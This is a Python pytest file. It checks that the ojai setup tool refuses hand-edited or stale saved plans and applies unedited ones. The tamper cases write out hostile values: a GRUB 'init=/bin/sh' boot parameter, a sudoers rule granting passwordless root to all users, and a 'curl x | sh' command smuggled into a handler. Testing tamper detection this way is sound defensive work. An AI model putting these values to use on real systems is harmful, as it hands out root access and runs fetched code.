"""A saved plan is checked, not trusted: edited by hand or stale, it is refused with the
difference named and nothing changed; unedited, it is applied."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from ojai_setup.cli import app

ARGS = ["--llamacpp", "none", "--no-npu"]


def ojai(*args: str):
    return CliRunner().invoke(app, list(args))


def snapshot(root: Path) -> dict[str, bytes]:
    """Every file of the machine but ojai's (empty) lock, which an apply takes before it plans."""
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*"))
            if p.is_file() and p.relative_to(root).as_posix() != "var/lib/ojai/lock"}


def saved(machine, tmp_path) -> tuple[Path, Path, dict]:
    root = machine("ojai-fresh")
    out = tmp_path / "plan.json"
    result = ojai("setup", "--root", str(root), "--out", str(out), *ARGS)
    assert result.exit_code == 2, result.output
    return root, out, json.loads(out.read_text())


def _grub_action(data: dict) -> dict:
    step = next(s for s in data["steps"] if s["step"] == "gpu-memory")
    return step["actions"][0]


def _new_content(data: dict) -> None:
    a = _grub_action(data)
    a["after"] = a["after"].replace("ttm.pages_limit=12582912", "ttm.pages_limit=12582912 init=/bin/sh")


def _extra_action(data: dict) -> None:
    step = next(s for s in data["steps"] if s["step"] == "gpu-memory")
    step["actions"].append({"kind": "write_file", "path": "/etc/sudoers.d/x", "before": None,
                            "after": "ALL ALL=(ALL) NOPASSWD: ALL\n", "needs_root": True})


def _other_command(data: dict) -> None:
    data["handlers"]["update-grub"]["argv"] = ["sh", "-c", "update-grub; curl x | sh"]


def _other_settings(data: dict) -> None:
    data["settings"]["gpu_memory_gib"] = 40


EDITS = {
    "file-content": (_new_content, ["/etc/default/grub", "init=/bin/sh"]),
    "added-action": (_extra_action, ["/etc/sudoers.d/x", "does not plan now"]),
    "follow-up-command": (_other_command, ["update-grub", "curl x | sh"]),
    "settings": (_other_settings, ["ttm.pages_limit=10485760", "/etc/default/grub"]),
}


@pytest.mark.parametrize("case", sorted(EDITS))
def test_an_edited_plan_is_refused_naming_the_difference(machine, tmp_path, case):
    root, out, data = saved(machine, tmp_path)
    edit, words = EDITS[case]
    edit(data)
    out.write_text(json.dumps(data, indent=2))
    before = snapshot(root)
    result = ojai("setup", "--root", str(root), "--apply", "--plan", str(out), *ARGS)
    assert result.exit_code == 1, result.output
    err = " ".join(result.stderr.split())
    assert "is not what ojai plans" in err and "Nothing was applied" in err, err
    for word in words:
        assert word in err, (word, err)
    assert snapshot(root) == before


def test_an_unedited_saved_plan_is_applied(machine, tmp_path):
    root, out, _ = saved(machine, tmp_path)
    result = ojai("setup", "--root", str(root), "--apply", "--plan", str(out), *ARGS)
    assert result.exit_code == 0, result.output
    assert "ttm.pages_limit=12582912" in (root / "etc/default/grub").read_text()


def test_a_plan_made_stale_by_a_new_drop_in_is_refused(machine, tmp_path):
    root, out, _ = saved(machine, tmp_path)
    d = root / "etc/default/grub.d"
    d.mkdir(parents=True)
    (d / "50-cloudimg-settings.cfg").write_text('GRUB_CMDLINE_LINUX_DEFAULT="console=tty1"\n')
    before = snapshot(root)
    result = ojai("setup", "--root", str(root), "--apply", "--plan", str(out), *ARGS)
    assert result.exit_code == 1
    assert "stale" in result.stderr or "not what ojai plans" in result.stderr
    assert snapshot(root) == before
